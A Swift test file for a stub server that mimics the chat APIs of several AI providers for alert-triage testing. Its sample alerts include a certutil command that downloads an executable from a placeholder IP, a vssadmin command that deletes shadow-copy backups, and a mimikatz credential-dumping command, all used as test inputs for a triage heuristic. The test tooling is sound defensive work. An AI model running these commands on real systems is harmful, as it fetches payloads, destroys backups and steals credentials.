import Foundation
import StubTestSupport
import Testing

/// One provider route: a request carrying `prompt`, where the answer and the usage sit in its response,
/// and where its error format puts the error type.
struct RouteCase: Sendable, CustomTestStringConvertible {
    let name: String
    let path: String
    let request: @Sendable (String) -> [String: Any]
    let answerPath: [any Sendable]
    let promptTokensPath: [any Sendable]
    /// A field of the provider's error body that a 400 must carry, and its expected value.
    let errorField: (path: [any Sendable], value: String)?
    var testDescription: String { name }

    func answer(in body: Any?) -> String? { walk(body, answerPath) as? String }
    func promptTokens(in body: Any?) -> Int? { walk(body, promptTokensPath) as? Int }

    func walk(_ body: Any?, _ path: [any Sendable]) -> Any? {
        path.reduce(body) { current, step in json(current, step) }
    }

    static let chatMessages: @Sendable (String) -> [String: Any] = { prompt in
        ["model": "gpt-4.1", "seed": 7, "messages": [["role": "system", "content": "You triage alerts."], ["role": "user", "content": prompt]]]
    }

    static let all: [RouteCase] = [
        RouteCase(name: "OpenAI", path: "/v1/chat/completions", request: chatMessages,
                  answerPath: ["choices", 0, "message", "content"], promptTokensPath: ["usage", "prompt_tokens"],
                  errorField: (["error", "type"], "invalid_request_error")),
        RouteCase(name: "Azure deployment", path: "/openai/deployments/triage-gpt4o/chat/completions?api-version=2024-10-21",
                  request: chatMessages, answerPath: ["choices", 0, "message", "content"], promptTokensPath: ["usage", "prompt_tokens"],
                  errorField: (["error", "code"], "BadRequest")),
        RouteCase(name: "Azure v1", path: "/openai/v1/chat/completions", request: chatMessages,
                  answerPath: ["choices", 0, "message", "content"], promptTokensPath: ["usage", "prompt_tokens"],
                  errorField: (["error", "code"], "BadRequest")),
        RouteCase(name: "Anthropic", path: "/v1/messages",
                  request: { ["model": "claude-sonnet-4-20250514", "max_tokens": 64, "system": "You triage alerts.",
                              "messages": [["role": "user", "content": [["type": "text", "text": $0]]]]] },
                  answerPath: ["content", 0, "text"], promptTokensPath: ["usage", "input_tokens"],
                  errorField: (["error", "type"], "invalid_request_error")),
        RouteCase(name: "Bedrock", path: "/model/anthropic.claude-3-haiku-20240307-v1%3A0/converse",
                  request: { ["messages": [["role": "user", "content": [["text": $0]]]], "system": [["text": "You triage alerts."]],
                              "inferenceConfig": ["maxTokens": 64]] },
                  answerPath: ["output", "message", "content", 0, "text"], promptTokensPath: ["usage", "inputTokens"],
                  errorField: nil),
        RouteCase(name: "Gemini", path: "/v1beta/models/gemini-2.5-flash:generateContent",
                  request: { ["systemInstruction": ["parts": [["text": "You triage alerts."]]],
                              "contents": [["role": "user", "parts": [["text": $0]]]], "generationConfig": ["seed": 3]] },
                  answerPath: ["candidates", 0, "content", "parts", 0, "text"], promptTokensPath: ["usageMetadata", "promptTokenCount"],
                  errorField: (["error", "status"], "INVALID_ARGUMENT")),
        RouteCase(name: "Vertex", path: "/v1/projects/my-project/locations/us-central1/publishers/google/models/gemini-2.0-flash-001:generateContent",
                  request: { ["contents": [["role": "user", "parts": [["text": $0]]]]] },
                  answerPath: ["candidates", 0, "content", "parts", 0, "text"], promptTokensPath: ["usageMetadata", "promptTokenCount"],
                  errorField: (["error", "status"], "INVALID_ARGUMENT")),
        RouteCase(name: "Ollama", path: "/api/chat",
                  request: { ["model": "llama3.2", "stream": false, "messages": [["role": "user", "content": $0]], "options": ["seed": 1]] },
                  answerPath: ["message", "content"], promptTokensPath: ["prompt_eval_count"], errorField: nil),
        RouteCase(name: "Elastic inference", path: "/_inference/completion/triage-openai",
                  request: { ["input": $0] }, answerPath: ["completion", 0, "result"], promptTokensPath: [],
                  errorField: (["error", "type"], "action_request_validation_exception")),
    ]
}

@Suite("llm-stub routes", .boundedResources)
struct StubRoutesTests {
    static let prompt = "Alert: process.command_line = certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe"

    @Test("every route answers the heuristic verdict in its own format, with token usage", arguments: RouteCase.all)
    func answersHeuristic(route: RouteCase) async throws {
        let stub = try await StubServer()
        let response = try await stub.post(route.path, json: route.request(Self.prompt))
        #expect(response.status == 200)
        #expect(response.headers["content-type"] == "application/json")
        let body = decoded(response)
        let expected = heuristicAnswer(Self.prompt)
        #expect(route.answer(in: body) == expected)
        #expect(expected.hasPrefix("verdict=TP confidence="))
        if !route.promptTokensPath.isEmpty {
            let tokens = try #require(route.promptTokens(in: body))
            #expect(tokens == (Self.prompt.utf8.count + 3) / 4)
        }
    }

    @Test("every route answers a --answer text: literal", arguments: RouteCase.all)
    func textAnswer(route: RouteCase) async throws {
        let stub = try await StubServer(["--answer", "text:verdict=FP confidence=0.12 summary=benign \"quoted\" \\ text"])
        let response = try await stub.post(route.path, json: route.request("anything at all"))
        #expect(response.status == 200)
        #expect(route.answer(in: decoded(response)) == "verdict=FP confidence=0.12 summary=benign \"quoted\" \\ text")
    }

    @Test("a request without a prompt is a 400 in the provider's error format", arguments: RouteCase.all)
    func missingPrompt(route: RouteCase) async throws {
        let stub = try await StubServer()
        let response = try await stub.post(route.path, json: ["model": "m", "messages": [["role": "system", "content": "only a system"]]])
        #expect(response.status == 400)
        let body = decoded(response)
        if let errorField = route.errorField {
            #expect(route.walk(body, errorField.path) as? String == errorField.value)
        }
        #expect(try await stub.stats() == StubStats(requests: 1, byStatus: ["400": 1]))
    }

    @Test("responses mirror provider shapes: model echo, Azure filters, Bedrock error type, Ollama done")
    func providerSpecificFields() async throws {
        let stub = try await StubServer(["--answer", "text:ok"])
        let azure = decoded(try await stub.post(
            "/openai/deployments/triage-gpt4o/chat/completions?api-version=2024-10-21", json: ["messages": [["role": "user", "content": "p"]]]
        ))
        #expect(json(azure, "model") as? String == "triage-gpt4o")
        #expect(json(azure, "prompt_filter_results", 0, "content_filter_results", "hate", "filtered") as? Bool == false)
        #expect(json(azure, "choices", 0, "finish_reason") as? String == "stop")

        let openAI = decoded(try await stub.post("/v1/chat/completions", json: RouteCase.chatMessages("p")))
        #expect(json(openAI, "object") as? String == "chat.completion")
        let usage = try #require(json(openAI, "usage") as? [String: Any])
        #expect(usage["total_tokens"] as? Int == (usage["prompt_tokens"] as? Int ?? -1) + (usage["completion_tokens"] as? Int ?? -1))

        let gemini = decoded(try await stub.post("/v1beta/models/gemini-2.5-flash:generateContent", json: ["contents": [["parts": [["text": "p"]]]]]))
        #expect(json(gemini, "modelVersion") as? String == "gemini-2.5-flash")
        #expect(json(gemini, "candidates", 0, "finishReason") as? String == "STOP")

        let bedrock = try await stub.post("/model/us.anthropic.claude-sonnet-4-20250514-v1%3A0/converse", json: ["messages": []])
        #expect(bedrock.status == 400)
        #expect(bedrock.headers["x-amzn-errortype"]?.hasPrefix("ValidationException:") == true)
        #expect(bedrock.json?["message"] is String)

        let ollama = decoded(try await stub.post("/api/chat", json: ["model": "llama3.2", "messages": [["role": "user", "content": "p"]]]))
        #expect(json(ollama, "done") as? Bool == true)
        #expect(json(ollama, "model") as? String == "llama3.2")
        #expect(json(ollama, "eval_count") as? Int == 1)

        let anthropic = decoded(try await stub.post("/v1/messages", json: ["model": "claude-x", "max_tokens": 5, "messages": [["role": "user", "content": "p"]]]))
        #expect(json(anthropic, "stop_reason") as? String == "end_turn")
        #expect(json(anthropic, "model") as? String == "claude-x")
    }

    @Test("Elastic inference answers one result per input, in order")
    func elasticInferenceBatch() async throws {
        let stub = try await StubServer()
        let prompts = ["vssadmin delete shadows /all /quiet", "notepad.exe readme.txt", "mimikatz sekurlsa::logonpasswords"]
        let body = decoded(try await stub.post("/_inference/completion/triage", json: ["input": prompts]))
        let results = try #require(json(body, "completion") as? [[String: Any]])
        #expect(results.map { $0["result"] as? String } == prompts.map { heuristicAnswer($0) })
    }

    @Test("/requests records method, path, query, lowercased headers and the raw body")
    func requestRecording() async throws {
        let stub = try await StubServer(["--answer", "text:ok"])
        let body = Data(#"{"messages":[{"role":"user","content":"héllo \"world\""}],"model":"m"}"#.utf8)
        _ = try await stub.send("POST", "/openai/deployments/dep-1/chat/completions?api-version=2024-10-21", body: body,
                                headers: ["api-key": "secret-123", "X-Custom-Thing": "Value"])
        _ = try await stub.send("GET", "/stats")
        let recorded = try await stub.requests()
        #expect(recorded.count == 1)
        let request = try #require(recorded.first)
        #expect(request.method == "POST")
        #expect(request.path == "/openai/deployments/dep-1/chat/completions")
        #expect(request.query == "api-version=2024-10-21")
        #expect(request.headers["api-key"] == "secret-123")
        #expect(request.headers["x-custom-thing"] == "Value")
        #expect(request.headers["content-type"] == "application/json")
        #expect(request.headers["host"] == "127.0.0.1:\(stub.port)")
        #expect(request.body == String(decoding: body, as: UTF8.self))
    }

    @Test("/stats counts model-route requests by status; /reset clears stats and requests")
    func statsAndReset() async throws {
        let stub = try await StubServer(["--answer", "text:ok"])
        for _ in 0..<3 {
            #expect(try await stub.post("/v1/messages", json: ["messages": [["role": "user", "content": "p"]]]).status == 200)
        }
        #expect(try await stub.post("/v1/messages", json: [:]).status == 400)
        #expect(try await stub.send("POST", "/no/such/route", body: Data("{}".utf8)).status == 404)
        #expect(try await stub.stats() == StubStats(requests: 4, byStatus: ["200": 3, "400": 1]))
        #expect(try await stub.requests().count == 4)
        try await stub.reset()
        #expect(try await stub.stats() == StubStats(requests: 0, byStatus: [:]))
        #expect(try await stub.requests().isEmpty)
    }

    @Test("/requests keeps only the last 200 requests, oldest first")
    func requestLogCapacity() async throws {
        let stub = try await StubServer(["--answer", "text:ok"])
        for index in 0..<205 {
            _ = try await stub.post("/api/chat", json: ["messages": [["role": "user", "content": "prompt \(index)"]]])
        }
        let recorded = try await stub.requests()
        #expect(recorded.count == 200)
        #expect(recorded.first?.body.contains("prompt 5\"") == true)
        #expect(recorded.last?.body.contains("prompt 204\"") == true)
    }
}
